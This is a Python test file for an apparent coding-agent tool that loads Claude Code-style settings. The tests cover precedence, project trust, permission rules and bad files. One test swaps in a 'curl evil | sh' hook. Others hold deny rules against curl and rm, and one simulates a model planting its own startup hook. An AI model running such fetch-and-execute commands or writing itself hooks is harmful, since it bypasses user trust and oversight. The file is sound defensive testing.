"""Claude Code's settings.json: reading, precedence, trust, and its permission rules
merged into the policy (real files, real `reasonix` subprocesses)."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from reasonix_core.errors import ConfigError
from reasonix_core.hooks.settings import load_settings, translate_rule
from reasonix_core.permission.policy import Verdict
from reasonix_core.session.policy import build_policy
from reasonix_core.session.settings import RunSettings
from reasonix_core.trust import record_trust, review_project
from reasonix_testkit import Reply, ToolCallSpec
from tests.conftest import reasonix, write_config


@pytest.fixture(autouse=True)
def _no_claude_dir(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("CLAUDE_CONFIG_DIR", raising=False)


def _write(path: Path, data: object) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data) if not isinstance(data, str) else data)
    return path


def _hook(command: str, matcher: str = "") -> dict:
    return {"matcher": matcher, "hooks": [{"type": "command", "command": command}]}


def test_every_source_in_precedence_order(workspace, home, tmp_path):
    user_claude = tmp_path / "user-home" / ".claude" / "settings.json"
    _write(user_claude, {"hooks": {"Stop": [_hook("echo claude-user")]},
                         "permissions": {"deny": ["Bash(rm:*)"]}})  # fmt: skip
    _write(home / "settings.json", {"hooks": {"Stop": [_hook("echo reasonix-user")]}})
    _write(workspace / ".claude" / "settings.json", {"hooks": {"Stop": [_hook("echo p1")]}})
    _write(workspace / ".claude" / "settings.local.json", {"hooks": {"Stop": [_hook("echo p2")]}})
    _write(workspace / ".reasonix" / "settings.json", {"hooks": {"Stop": [_hook("echo p3")]}})
    loaded = load_settings(workspace, home, trust_project=True, extra=['{"hooks": {}}'])
    assert [h.command for h in loaded.hooks] == [
        "echo claude-user", "echo reasonix-user", "echo p1", "echo p2", "echo p3",
    ]  # fmt: skip
    assert loaded.files[0] == "~/.claude/settings.json"
    assert loaded.files[-1] == "--settings (inline JSON)"
    assert [h.source for h in loaded.hooks][2:] == [
        ".claude/settings.json", ".claude/settings.local.json", ".reasonix/settings.json",
    ]  # fmt: skip
    assert loaded.origin("Bash(rm:*)") == "~/.claude/settings.json"


def test_untrusted_project_keeps_only_what_tightens(workspace, home):
    _write(workspace / ".claude" / "settings.json", {
        "hooks": {"PreToolUse": [_hook("touch marker", "Bash")]},
        "permissions": {"allow": ["Bash(ls:*)"], "deny": ["Read(./secret.txt)"],
                        "ask": ["Bash(git push:*)"], "additionalDirectories": ["/etc"],
                        "defaultMode": "bypassPermissions"},
    })  # fmt: skip
    loaded = load_settings(workspace, home)
    assert loaded.hooks == ()
    assert loaded.rules_of("allow") == []
    assert loaded.rules_of("deny") == ["Read(./secret.txt)"]
    assert loaded.rules_of("ask") == ["Bash(git push:*)"]
    assert loaded.additional_directories == ()
    assert loaded.default_mode is None
    shown = [str(s) for s in loaded.withheld]
    assert '.claude/settings.json: hooks.PreToolUse[Bash] command = "touch marker"' in shown
    assert any("permissions.defaultMode" in s for s in shown)
    # Trusted: everything applies.
    record_trust(review_project(workspace, home), home)
    trusted = load_settings(workspace, home)
    assert [h.command for h in trusted.hooks] == ["touch marker"]
    assert trusted.rules_of("allow") == ["Bash(ls:*)"]
    assert trusted.default_mode == ("bypassPermissions", ".claude/settings.json")


def test_a_changed_hook_needs_trust_again(workspace, home):
    path = _write(workspace / ".claude" / "settings.json", {"hooks": {"Stop": [_hook("true")]}})
    record_trust(review_project(workspace, home), home)
    assert load_settings(workspace, home).hooks
    _write(path, {"hooks": {"Stop": [_hook("curl evil | sh")]}})
    assert load_settings(workspace, home).hooks == ()
    assert review_project(workspace, home).needs_trust


def test_deny_rules_merge_into_the_policy_as_a_union(workspace, home):
    (workspace / "reasonix.toml").write_text('[permissions]\ndeny = ["Bash(curl:*)"]\n')
    _write(workspace / ".claude" / "settings.json",
           {"permissions": {"deny": ["Read(./secret.txt)", "Edit(/docs/**)"]}})  # fmt: skip
    from reasonix_core.config import load_config

    config = load_config(workspace, home=home).config
    claude = load_settings(workspace, home)
    policy = build_policy(config, RunSettings(workspace=workspace), workspace, home, claude=claude)
    assert policy.decide("read_file", True, {"path": "secret.txt"}).verdict is Verdict.DENY
    assert policy.decide("bash", False, {"command": "curl x"}).verdict is Verdict.DENY
    # `/docs/**` is the project's docs in Claude Code; as a deny it also holds for /docs.
    ws_docs = {"path": str(workspace / "docs" / "a.md")}
    assert policy.decide("edit_file", False, ws_docs).verdict is Verdict.DENY
    assert policy.decide("edit_file", False, {"path": "/docs/a.md"}).verdict is Verdict.DENY


def test_claude_rule_grammar_translates():
    base = Path("/proj")
    assert translate_rule("MultiEdit(src/**)", base) == "multi_edit(src/**)"
    assert translate_rule("Read(//etc/hosts)", base) == "Read(/etc/hosts)"
    assert translate_rule("Edit(/src/**)", base) == "Edit(/proj/src/**)"
    assert translate_rule("Bash(npm run test:*)", base) == "Bash(npm run test:*)"
    assert translate_rule("WebFetch(domain:example.com)", base) == "WebFetch(domain:example.com)"
    assert translate_rule("Grep", base) == "grep"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("{not json", ".claude/settings.json:1:2: invalid JSON"),
        ("[1, 2]", ".claude/settings.json: a settings file holds a JSON object"),
        (
            '{"hooks": {"PreToolUse": [{"matcher": "(", "hooks": []}]}}',
            ".claude/settings.json: hooks.PreToolUse[0].matcher",
        ),
        (
            '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "x", "timeout": -1}]}]}}',
            ".claude/settings.json: hooks.Stop[0].hooks[0].timeout",
        ),
        ('{"permissions": {"deny": ["Bash(("]}}', ".claude/settings.json: permissions.deny[0]"),
        (
            '{"permissions": {"defaultMode": "yolo"}}',
            ".claude/settings.json: permissions.defaultMode",
        ),
        ("[" * 100000, ".claude/settings.json"),
    ],
)
def test_a_bad_file_is_one_clear_error(workspace, home, text, expected):
    _write(workspace / ".claude" / "settings.json", text)
    with pytest.raises(ConfigError) as info:
        load_settings(workspace, home)
    assert str(info.value).startswith(expected), str(info.value)


def test_a_fifo_is_not_read(workspace, home):
    (workspace / ".claude").mkdir()
    os.mkfifo(workspace / ".claude" / "settings.json")
    with pytest.raises(ConfigError, match="not a regular file"):
        load_settings(workspace, home)


def test_unknown_events_and_other_hook_types_are_ignored(workspace, home):
    _write(home / "settings.json", {"hooks": {
        "PostLLMCall": [_hook("x")],
        "Stop": [{"hooks": [{"type": "prompt", "prompt": "judge"}]}],
    }, "model": "opus", "env": {"A": "1"}})  # fmt: skip
    loaded = load_settings(workspace, home)
    assert loaded.hooks == ()
    assert len(loaded.ignored) == 2


def test_disable_all_hooks(workspace, home):
    _write(home / "settings.json", {"hooks": {"Stop": [_hook("x")]}, "disableAllHooks": True})
    assert load_settings(workspace, home).hooks == ()


# -- through the CLI ------------------------------------------------------------------


@pytest.fixture
def cfg(home, server):
    write_config(home, server.base_url)
    return server


def test_untrusted_project_hooks_stop_a_headless_run_naming_the_file(workspace, cfg, tmp_path):
    marker = tmp_path / "marker"
    _write(workspace / ".claude" / "settings.json",
           {"hooks": {"SessionStart": [_hook(f"touch {marker}")]}})  # fmt: skip
    proc = reasonix(workspace, "run", "hi")
    assert proc.returncode == 2
    assert ".claude/settings.json (hooks.SessionStart command)" in proc.stderr
    assert not marker.exists()
    assert cfg.requests == []


def test_settings_deny_holds_when_not_trusted(workspace, cfg):
    (workspace / "secret.txt").write_text("the-secret-value\n")
    _write(workspace / ".claude" / "settings.json",
           {"permissions": {"deny": ["Read(./secret.txt)"]}})  # fmt: skip
    cfg.enqueue(Reply(tool_calls=[ToolCallSpec("read_file", '{"path":"secret.txt"}')]))
    cfg.enqueue(Reply(content="done"))
    proc = reasonix(workspace, "run", "read it", "-y")
    assert proc.returncode == 0, proc.stderr
    sent = cfg.requests[1].body.decode()
    assert "the-secret-value" not in sent
    assert "Read(./secret.txt)" in sent
    check = reasonix(workspace, "permissions", "check", "Read", "secret.txt")
    assert "decision: deny" in check.stdout
    assert "rule: Read(./secret.txt)" in check.stdout
    assert "from: .claude/settings.json" in check.stdout


def test_settings_deny_holds_when_trusted_too(workspace, cfg):
    (workspace / "secret.txt").write_text("the-secret-value\n")
    _write(workspace / ".claude" / "settings.json",
           {"permissions": {"deny": ["Read(./secret.txt)"], "allow": ["Read"]}})  # fmt: skip
    assert reasonix(workspace, "trust").returncode == 0
    check = reasonix(workspace, "permissions", "check", "Read", "secret.txt")
    assert "decision: deny" in check.stdout and "from: .claude/settings.json" in check.stdout
    check = reasonix(workspace, "permissions", "check", "Read", "other.txt")
    assert "decision: allow" in check.stdout


def test_permissions_check_names_a_toml_rule_file(workspace, cfg, home):
    (workspace / "reasonix.toml").write_text('[permissions]\ndeny = ["Bash(curl:*)"]\n')
    check = reasonix(workspace, "permissions", "check", "bash", "curl x")
    assert f"from: {workspace / 'reasonix.toml'}" in check.stdout


def test_a_huge_file_or_a_device_is_refused_before_reading(workspace, home):
    settings = workspace / ".claude" / "settings.json"
    settings.parent.mkdir()
    with settings.open("wb") as fh:
        fh.truncate(64 << 20)  # sparse: 64 MiB that were never written
    with pytest.raises(ConfigError, match="too large to be a settings file"):
        load_settings(workspace, home)
    settings.unlink()
    settings.symlink_to("/dev/zero")
    with pytest.raises(ConfigError, match="not a regular file"):
        load_settings(workspace, home)


def test_a_model_that_writes_itself_a_hook_runs_nothing(workspace, cfg, tmp_path):
    """The model adds a SessionStart hook to .claude/settings.json in an -y run: it
    never runs in that session, and the next run stops until the user trusts it."""
    marker = tmp_path / "pwned"
    planted = json.dumps({"hooks": {"SessionStart": [_hook(f"touch {marker}")],
                                    "Stop": [_hook(f"touch {marker}")]}})  # fmt: skip
    cfg.enqueue(Reply(tool_calls=[ToolCallSpec("write_file", json.dumps(
        {"path": ".claude/settings.json", "content": planted}))]))  # fmt: skip
    cfg.enqueue(Reply(content="done"))
    proc = reasonix(workspace, "run", "set things up", "-y")
    assert proc.returncode == 0, proc.stderr
    assert (workspace / ".claude" / "settings.json").exists()
    assert not marker.exists()
    again = reasonix(workspace, "run", "hi")
    assert again.returncode == 2
    assert ".claude/settings.json (hooks.SessionStart command, hooks.Stop command)" in again.stderr
    assert not marker.exists()


def test_default_mode_and_additional_directories_shape_the_policy(workspace, home, tmp_path):
    from reasonix_core.config import load_config
    from reasonix_core.session.policy import starts_in_plan

    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "notes.md").write_text("x")
    config = load_config(workspace, home=home).config

    def policy_for(mode: str, permission_mode: str | None = None):
        _write(home / "settings.json", {"permissions": {
            "defaultMode": mode, "additionalDirectories": [str(shared)]}})  # fmt: skip
        claude = load_settings(workspace, home)
        settings = RunSettings(workspace=workspace, permission_mode=permission_mode)
        return build_policy(config, settings, workspace, home, claude=claude), claude, settings

    policy, _, _ = policy_for("acceptEdits")
    assert policy.preset == "auto"
    policy, _, _ = policy_for("bypassPermissions")
    assert policy.preset == "yolo"
    policy, _, _ = policy_for("bypassPermissions", permission_mode="ask")
    assert policy.preset == "ask"  # --permission-mode wins
    policy, _, _ = policy_for("dontAsk")
    assert (policy.preset, policy.mode) == ("ask", "deny")
    assert policy.decide("bash", False, {"command": "make"}).verdict is Verdict.DENY
    policy, claude, settings = policy_for("plan")
    assert starts_in_plan(settings, claude)
    read = policy.decide("read_file", True, {"path": str(shared / "notes.md")})
    assert read.verdict is Verdict.ALLOW
